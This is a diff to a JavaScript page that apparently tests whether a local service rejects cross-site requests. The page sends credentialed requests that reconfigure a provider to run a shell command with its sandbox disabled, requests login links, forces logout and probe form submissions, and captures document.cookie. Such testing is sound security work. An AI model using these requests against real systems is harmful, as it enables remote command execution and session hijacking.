@@ -42,7 +42,7 @@ done.push(fetch(D + '/v1/providers/escaped', {method: 'PATCH', credentials: 'inc
   body: JSON.stringify({extends: 'acp', command: ['sh', '-c', 'id > /tmp/pwned'], sandbox: {enabled: false}})}).then(r => 'patch ' + r.status, e => 'patch refused'));
 done.push(fetch(D + '/v1/login-links', {method: 'POST', mode: 'no-cors', credentials: 'include'}).then(r => 'links ' + r.type, e => 'links refused'));
 done.push(new Promise(res => { const i = new Image(); i.onload = i.onerror = () => res('img done'); i.src = D + '/v1/sessions'; }));
-for (const id of ['logout', 'probe']) done.push(new Promise(res => { const f = document.querySelector('iframe[name=' + (id === 'logout' ? 'f1' : 'f2') + ']'); f.onload = () => res(id + ' posted'); document.getElementById(id).submit(); }));
+for (const id of ['logout', 'probe']) done.push(new Promise(res => { const f = document.querySelector('iframe[name=' + (id === 'logout' ? 'f1' : 'f2') + ']'); f.onload = () => res(id + ' posted'); setTimeout(() => res(id + ' sent'), 2000); document.getElementById(id).submit(); }));
 Promise.all(done).then(async r => {
   await note('results', r.join(', '));
   await note('document.cookie', document.cookie);
